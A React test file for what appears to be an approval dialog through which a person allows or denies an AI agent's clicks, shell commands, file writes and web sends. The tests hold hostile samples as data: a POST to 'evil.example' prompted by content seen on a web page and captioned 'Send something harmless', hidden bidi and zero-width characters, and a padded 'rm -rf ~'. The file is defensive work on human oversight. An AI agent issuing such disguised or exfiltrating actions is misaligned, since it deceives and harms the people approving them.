// The question by itself, as any window may show it: what is shown, the keys, the focus, the small layout.

import { act, render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test, vi } from "vitest";
import { BackendProvider } from "../../ipc/backend";
import { createFakeBackend } from "../../ipc/fake";
import type { Answer, EventBody, Question, Target } from "../../ipc/generated/protocol";
import { answersAtRest, drawWindow } from "../../test-window";
import { Composer } from "../../composer/composer";
import { Transcript } from "../transcript";
import { ApprovalQuestion } from "./approval-question";
import { OpenQuestions } from "./open-questions";
import { text } from "../../texts";

const CLICK: Question = {
  sentence: "Click at 486, 566",
  reason: "You asked to be asked first.",
  tool: "left_click",
  domain: "desktop",
  effect: "act",
  target: {
    image: { id: "crop", media_type: "image/webp", byte_count: 1, width: 480, height: 300 },
    region: { x: 246, y: 416, width: 480, height: 300 },
    points: [{ x: 486, y: 566 }],
    window: { title: "Practice form", app: "qilbee" },
  },
};

function draw(change: Partial<Question> = {}, more: { compact?: boolean } = {}, asks = CLICK) {
  const given: Answer[] = [];
  const give = async (answer: Answer) => void given.push(answer);
  const approval = { id: "a1", call: "c1", question: { ...asks, ...change } };
  // No chat and no workspace around it.
  const { container } = render(
    <BackendProvider value={createFakeBackend(new URLSearchParams())}>
      <ApprovalQuestion approval={approval} give={give} {...more} />
    </BackendProvider>,
  );
  return { given, container, user: userEvent.setup() };
}

const SCOPE = { id: "policy-scope-folders", args: { folders: "~/A" }, text: "files in ~/A" };
const COVERS = { id: "policy-scope", args: { scope: SCOPE }, text: "It covers files in ~/A." };

/** jsdom takes what is shown over everything else for hidden. */
const IN_TOP_LAYER = { hidden: true };
const press = (name: string) => screen.getByRole("button", { name });
const ring = (container: HTMLElement) =>
  container.querySelector("[data-ring]")?.getAttribute("data-ring");

test("a click shows the place and the window, and on request what follows", async () => {
  const { container, user } = draw();
  expect(ring(container)).toBe("240,150");
  expect(screen.getByText(text("approval-in-window", { title: "Practice form" }))).toBeVisible();
  expect(screen.getByText(text("approval-consequence-mouse"))).not.toBeVisible();
  await user.click(screen.getByText(text("approval-details")));
  expect(screen.getByText(text("approval-consequence-mouse"))).toBeVisible();
  expect(screen.getByRole("img")).toHaveAccessibleName(text("approval-picture"));
});

test("the program beside a window has the name that people know", () => {
  const { target } = CLICK;
  if (target === undefined) throw new Error("nothing is shown");
  draw({ target: { ...target, window: { title: "Letter", app: "soffice" } } });
  expect(
    screen.getByText(text("approval-in-app-window", { title: "Letter", app: "LibreOffice" })),
  ).toBeVisible();
});

test("keys show the window they go to, and a drag both its ends", () => {
  const { target } = CLICK;
  if (target === undefined) throw new Error("nothing is shown");
  const typing = draw({ tool: "type", target: { ...target, points: [] } });
  expect(ring(typing.container)).toBe("");
  expect(screen.getByText(text("approval-in-window", { title: "Practice form" }))).toBeVisible();
  expect(screen.getByText(text("approval-consequence-keys"))).toBeInTheDocument();
  const ends = [
    { x: 300, y: 500 },
    { x: 486, y: 566 },
  ];
  const drag = draw({ target: { ...target, points: ends } });
  expect(ring(drag.container)).toBe("54,84 240,150");
  expect(drag.container.querySelectorAll("line")).toHaveLength(2);
});

test.each([
  [{ tool: "open_practice_window" }, text("approval-consequence-practice")],
  [{ domain: "shell", effect: "execute" }, text("approval-consequence-shell")],
  [
    { domain: "shell", effect: "execute", confinement: "inside" },
    text("approval-consequence-inside"),
  ],
  [
    { domain: "shell", effect: "execute", confinement: "outside" },
    text("approval-consequence-free"),
  ],
  [{ domain: "files", effect: "write" }, text("approval-consequence-files")],
  [{ domain: "web", effect: "send" }, text("approval-consequence-send")],
  [{ domain: { server: "mail" }, effect: "send" }, /^“mail” does this/],
] satisfies [Partial<Question>, string | RegExp][])("what follows: %o", (change, words) => {
  const { target: _target, ...plain } = CLICK;
  render(
    <BackendProvider value={createFakeBackend(new URLSearchParams())}>
      <ApprovalQuestion
        approval={{ id: "a", call: "c", question: { ...plain, ...change } }}
        give={async () => {}}
      />
    </BackendProvider>,
  );
  expect(screen.getByText(words)).toBeVisible();
});

test("for a while", async () => {
  const { given, user } = draw();
  await answersAtRest();
  await user.click(press(text("approval-longer")));
  await user.click(
    screen.getByRole("menuitem", { name: text("approval-span-hour"), ...IN_TOP_LAYER }),
  );
  const [answer] = given;
  if (answer?.answer !== "allow" || answer.grant.for !== "until") throw new Error("not until");
  expect(Date.parse(answer.grant.until)).toBeGreaterThan(Date.now());
});

test.each([
  ["{Alt>}{Enter}{/Alt}", [{ answer: "allow", grant: { for: "once" } }]],
  ["{Alt>}{Backspace}{/Alt}", [{ answer: "deny" }]],
  // Keys that a person presses for anything else.
  ["{Enter}{Backspace}ay{Control>}{Enter}{/Control}{Alt>}{Shift>}{Enter}{/Shift}{/Alt}", []],
] satisfies [string, Answer[]][])("the keys %s", async (keys, answers) => {
  const { given, user } = draw();
  await user.keyboard(keys);
  expect(given).toEqual(answers);
});

test("a press that was on its way when the question came is no answer", async () => {
  const { given, user } = draw();
  for (const name of [text("approval-once"), text("approval-longer"), text("approval-deny")])
    await user.click(press(name));
  expect(screen.queryByRole("menu", IN_TOP_LAYER)).toBe(null);
  expect(given).toEqual([]);
  await answersAtRest();
  await user.click(press(text("approval-deny")));
  expect(given).toEqual([{ answer: "deny" }]);
});

test("a press that begins too early is none, however long it takes", async () => {
  const { given, user } = draw();
  await user.pointer({ keys: "[MouseLeft>]", target: press(text("approval-deny")) });
  await answersAtRest();
  await user.pointer({ keys: "[/MouseLeft]", target: press(text("approval-deny")) });
  expect(given).toEqual([]);
});

test("a double click answers once", async () => {
  const give = vi.fn(() => new Promise<void>(() => {}));
  const approval = { id: "a1", call: "c1", question: CLICK };
  render(
    <BackendProvider value={createFakeBackend(new URLSearchParams())}>
      <ApprovalQuestion approval={approval} give={give} />
    </BackendProvider>,
  );
  await answersAtRest();
  await userEvent.setup().dblClick(press(text("approval-once")));
  expect(give).toHaveBeenCalledTimes(1);
});

/** Names of the answers in their order, with whether each is the primary one and has the focus. */
const answers = () =>
  [...document.querySelectorAll<HTMLElement>("[data-answer]")].map((button) => [
    button.textContent,
    button.className.includes("primary"),
    button === document.activeElement,
  ]);

const SEEN = [{ what: "https://evil.example/in", seen: "on a page" }];

type Wanted = readonly [words: string, primary: boolean, focused: boolean];

const checkAnswers = (change: Partial<Question>, heading: string, ...wanted: Wanted[]) =>
  test(`no comes first, and a doubt is the heading: ${heading}`, () => {
    draw(change);
    expect(screen.getByRole("heading", { level: 2 })).toHaveTextContent(heading);
    expect(answers()).toEqual(wanted);
  });

checkAnswers(
  {},
  text("approval-click-heading"),
  [text("approval-deny"), false, false],
  [text("approval-once"), true, false],
);
checkAnswers(
  { once_only: true },
  "You asked to be asked first.",
  [text("approval-dont"), true, true],
  [text("approval-anyway"), false, false],
);
checkAnswers(
  { seen: SEEN, effect: "send" },
  text("approval-doubt-seen", { what: "evil.example" }),
  [text("approval-dont-send"), true, true],
  [text("approval-send-anyway"), false, false],
);

test("a doubtful question shows where it came from before what would be done", () => {
  const { target: _target, ...plain } = CLICK;
  const sends = { seen: SEEN, effect: "send", domain: "web" } as const;
  const words = { sentence: "Send something harmless", exact: "POST https://evil.example/in" };
  const { container } = draw({ ...sends, ...words }, {}, plain);
  const shown = container.textContent ?? "";
  const parts = [
    text("approval-consequence-send"),
    text("approval-evidence-from"),
    text("approval-evidence-sent"),
    "POST https",
  ];
  const places = parts.map((part) => shown.indexOf(part));
  expect(places).toEqual(places.toSorted((one, other) => one - other));
  expect(places).not.toContain(-1);
  // The sentence may be meant to mislead: it is for the screen reader, which reads the exact text as well.
  expect(screen.getByText("Send something harmless")).toHaveClass("visually-hidden");
});

test("no key says yes to a doubtful question, and one says no", async () => {
  const { given, user } = draw({ seen: SEEN });
  await user.keyboard("{Alt>}{Enter}{/Alt}");
  expect(given).toEqual([]);
  await user.keyboard("{Alt>}{Backspace}{/Alt}");
  expect(given).toEqual([{ answer: "deny" }]);
});

test("nothing in a question hides or reverses what is asked", () => {
  const odd = "a\u{202e}b\u{200b}\u{1b}c\u{e0041}";
  const shown = "a⟨U+202E⟩b⟨U+200B⟩⟨U+001B⟩c⟨U+E0041⟩";
  const { container } = draw({
    sentence: `Run ${odd}`,
    exact: `ls ${odd}`,
    reason: `Because ${odd}`,
    covers: `Covers ${odd}`,
    seen: [{ what: `host ${odd}`, seen: `page ${odd}` }],
    domain: { server: `server ${odd}` },
    target: { ...(CLICK.target as Target), window: { title: `title ${odd}`, app: `app ${odd}` } },
  });
  const words = container.textContent ?? "";
  for (const part of ["Run", "ls", "Because", "Covers", "host", "page", "server", "title", "App"])
    expect(words).toContain(`${part} ${shown}`);
  for (const hidden of ["\u{202e}", "\u{200b}", "\u{1b}", "\u{e0041}"])
    expect(words).not.toContain(hidden);
});

test("blank lines and long commands are folded, and say so", async () => {
  const { container, user } = draw({ exact: `rm -rf ~${"\n".repeat(201)}ls` });
  const lines = () => [...container.querySelectorAll("pre")].map((one) => one.textContent);
  expect(lines()).toEqual([`rm -rf ~\n${text("approval-blank-lines", { count: 200 })}\nls\n`]);
  const long = Array.from({ length: 1000 }, (_, index) => `echo ${index + 1}`).join("\n");
  const more = draw({ exact: long });
  expect(more.container.textContent).toContain(
    text("approval-size", { bytes: long.length, lines: 1000 }),
  );
  expect(more.container.textContent).toContain("echo 1000");
  expect(more.container.textContent).not.toContain("echo 500\n");
  await user.click(press(text("approval-more-lines", { count: 600 })));
  expect(more.container.textContent).toContain("echo 500\n");
});

test.each([[{}], [{ compact: true }]])("the longer answers are in one menu: %o", async (more) => {
  const { given, user } = draw({ covers: COVERS }, more);
  await answersAtRest();
  await user.click(press(text("approval-longer")));
  const menu = within(screen.getByRole("menu", IN_TOP_LAYER));
  const items = menu.getAllByRole("menuitem", IN_TOP_LAYER);
  const what = text("approval-covers", { what: "files in ~/A" });
  expect(items.map((item) => [...item.children].map((line) => line.textContent))).toEqual([
    [text("approval-span-chat"), what],
    [text("approval-span-quarter"), what],
    [text("approval-span-hour"), what],
    [text("approval-span-today"), what],
  ]);
  await user.click(items[0]!);
  expect(given).toEqual([{ answer: "allow", grant: { for: "session" } }]);
});

test("the small layout denies at once, or with words", async () => {
  const first = draw({}, { compact: true });
  await answersAtRest();
  await first.user.click(press(text("approval-deny")));
  expect(first.given).toEqual([{ answer: "deny" }]);
});

/** The conversation and the open question below it, as the window has them. */
function Asking() {
  return (
    <>
      <Transcript />
      <OpenQuestions />
    </>
  );
}

const asks = (id: string): EventBody[] => [
  {
    type: "tool_call",
    call: `c${id}`,
    name: "bash",
    input: {},
    sentence: `Run ${id}`,
    domain: "shell",
    effect: "execute",
  },
  {
    type: "approval_requested",
    approval: id,
    call: `c${id}`,
    question: {
      sentence: `Run ${id}`,
      reason: "",
      tool: "bash",
      domain: "shell",
      effect: "execute",
    },
  },
];
const BEGUN: EventBody[] = [{ type: "turn_started" }];

test("several are in order: the oldest has the keys, and an answer from elsewhere closes it", async () => {
  const past = [...BEGUN, ...asks("one"), ...asks("two")];
  const { user, sent, emit } = await drawWindow(<Asking />, { past });
  expect(screen.getByText(text("approval-place", { number: 1, of: 2 }))).toBeVisible();
  const heading = () => screen.getByRole("heading", { name: text("approval-shell-heading") });
  expect(heading()).toHaveFocus();
  expect(screen.getByText("Run one", { selector: "p" })).toBeVisible();
  expect(screen.queryByText("Run two", { selector: "p" })).toBe(null);
  const answer: Answer = { answer: "deny" };
  act(() =>
    emit({ type: "approval_resolved", approval: "one", call: "cone", answer, by: "person" }),
  );
  expect(heading()).toHaveFocus();
  expect(screen.getByText("Run two", { selector: "p" })).toBeVisible();
  await user.keyboard("{Alt>}{Enter}{/Alt}");
  expect(sent).toEqual([
    {
      type: "answer_approval",
      approval: "two",
      answer: { answer: "allow", grant: { for: "once" } },
    },
  ]);
});

test("whoever is writing goes on writing, and can answer all the same", async () => {
  const both = (
    <>
      <Asking />
      <Composer />
    </>
  );
  const { user, sent, emit } = await drawWindow(both, { past: BEGUN });
  const box = screen.getByRole("textbox", { name: /message/i });
  await user.type(box, "Not the");
  act(() => emit(...asks("one")));
  expect(box).toHaveFocus();
  // In a text that is being written this key edits, and answers nothing.
  await user.keyboard("{Alt>}{Backspace}{/Alt}");
  expect(sent).toEqual([]);
  await user.keyboard("{Alt>}{Enter}{/Alt}");
  expect(sent.map(({ type }) => type)).toEqual(["answer_approval"]);
  // The message is still there; in this document that key takes a letter.
  expect(box).toHaveValue("Not th");
});
